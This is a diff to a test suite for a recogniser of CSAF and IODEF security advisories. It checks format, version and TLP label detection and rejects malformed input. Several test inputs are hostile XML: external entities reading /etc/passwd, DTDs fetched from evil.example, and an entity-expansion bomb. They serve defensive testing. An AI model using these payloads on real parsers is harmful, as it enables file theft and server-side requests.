@@ -33,13 +33,26 @@ def iodef(space=IODEF2, restriction="", inner="", before=""):
     ).encode()
 
 
+def branches(depth):
+    return {"branches": [branches(depth - 1)]} if depth else {}
+
+
+def in_utf16(body, encoding):
+    """RFC 7970 §4.1 allows it where UTF-8 does not do."""
+    return ('<?xml version="1.0" encoding="UTF-16"?>' + body.decode()).encode(encoding)
+
+
 @pytest.mark.parametrize("body, format, version, tlp", [
     (csaf(), "csaf", "2.0", Tlp.AMBER),
     (csaf("WHITE"), "csaf", "2.0", Tlp.CLEAR),
     (csaf("AMBER+STRICT", "2.1"), "csaf", "2.1", Tlp.AMBER_STRICT),
     (csaf(""), "csaf", "2.0", None),
     (csaf("PURPLE"), "csaf", "2.0", None),
-    (b"\xef\xbb\xbf\n" + iodef(), "iodef", "2", None),
+    (csaf("RED", "2.1", product_tree=branches(30)), "csaf", "2.1", Tlp.RED),
+    (b"\xef\xbb\xbf\n" + iodef(), "iodef", "2", Tlp.AMBER_STRICT),  # without a restriction it is private
+    (iodef(before=f"<!--{'x' * 9000}-->"), "iodef", "2", Tlp.AMBER_STRICT),
+    (in_utf16(iodef(restriction="red"), "utf-16"), "iodef", "2", Tlp.RED),
+    (in_utf16(iodef(restriction="red"), "utf-16-be"), "iodef", "2", Tlp.RED),
     (iodef("urn:ietf:params:xml:ns:iodef-1.0", "need-to-know"), "iodef", "1", Tlp.AMBER_STRICT),
     (iodef(restriction="private"), "iodef", "2", Tlp.AMBER_STRICT),
     (iodef(restriction="green", inner='<Contact role="creator" restriction="red"/>'), "iodef", "2", Tlp.RED),
@@ -61,21 +74,38 @@ def test_purpose_status_and_restriction_of_iodef_are_shown_as_they_stand():
 @pytest.mark.parametrize("body, unclear", [
     (csaf("PURPLE"), True), (iodef(restriction="ext-value"), True), (csaf(""), False), (csaf("RED"), False),
     (csaf(distribution={"tlp": {"label": 7}}), True),
+    (csaf(distribution={"tlp": {"label": "GREEN"}, "sharing_group": {"id": "00000000-0000-4000-8000-000000000001"}}),
+     True),
+    (csaf(distribution={"tlp": {"label": "CLEAR"}, "sharing_group": {"id": "ffffffff-ffff-ffff-ffff-ffffffffffff"}}),
+     False),
 ])  # fmt: skip
 def test_a_label_we_do_not_know_is_left_to_a_person(body, unclear):
     assert documents.recognise(body).unclear is unclear
 
 
 @pytest.mark.parametrize("body", [
-    b"", b"{", b"%PDF-1.7", b'{"csaf_version": "2.0"}', b'{"document": ["csaf_version"]}', csaf(version="9.9"),
-    csaf(tracking=None), csaf(tracking={"id": 5}), csaf(distribution="all"), b"<IODEF-Document/>",
-    b"<IODEF-Document xmlns='urn:other'/>", b"<IODEF-Document", csaf() + b" " * documents.MOST,
-    b'{"document": ' * 5000 + b'"csaf_version"',
-    iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
+    csaf(version="9.9"), csaf(tracking=None), csaf(tracking={"id": 5}), csaf(distribution="all"),
+    csaf() + b" " * documents.MOST, b'{"document": ["csaf_version"]}', b'{"document": ' * 5000 + b'"csaf_version"',
+    b'{"a": "' + b"a" * 100_000 + b'", "csaf_version": 1}', csaf().decode().encode("utf-16"),
+    csaf().replace(b'"x"', b'"\xff"'),
+    b"<IODEF-Document/>", b"<IODEF-Document xmlns='urn:other'/>", b"<IODEF-Document", iodef() + b" " * documents.MOST,
+    iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY a SYSTEM "file:///etc/passwd">]>', inner="&a;"),
+    iodef(before='<!DOCTYPE IODEF-Document SYSTEM "https://evil.example/x.dtd">'),
+    iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>'),
     iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>', inner="&b;"),
-    iodef(before='<?xml version="1.0" encoding="no-such"?>'),
+    iodef(before='<?xml version="1.0" encoding="no-such"?>'), iodef(before='<?xml version="1.0" encoding="UTF-16"?>'),
+    iodef(inner="\xff").decode("utf-8").encode("latin-1"),
 ])  # fmt: skip
-def test_anything_else_broken_or_hostile_is_just_a_file(body):
+def test_what_says_it_is_one_and_cannot_be_read_is_left_to_a_person(body):
+    known = documents.recognise(body)
+    assert (known.version, known.ids, known.tlp, known.unclear) == ("", (), None, True)
+
+
+@pytest.mark.parametrize("body", [
+    b"", b"{", b"%PDF-1.7", b"\xff\xfe", b"\0", b"\0\0\0", b'{"document": {}}', b"<html>IODEF</html>", b"csaf_version",
+    b" " * 70_000 + b"<IODEF-Document/>", b"IODEF-Document", b'<template match="x:IODEF-Document"/>',
+])  # fmt: skip
+def test_anything_else_is_just_a_file(body):
     assert documents.recognise(body) is None
 
 
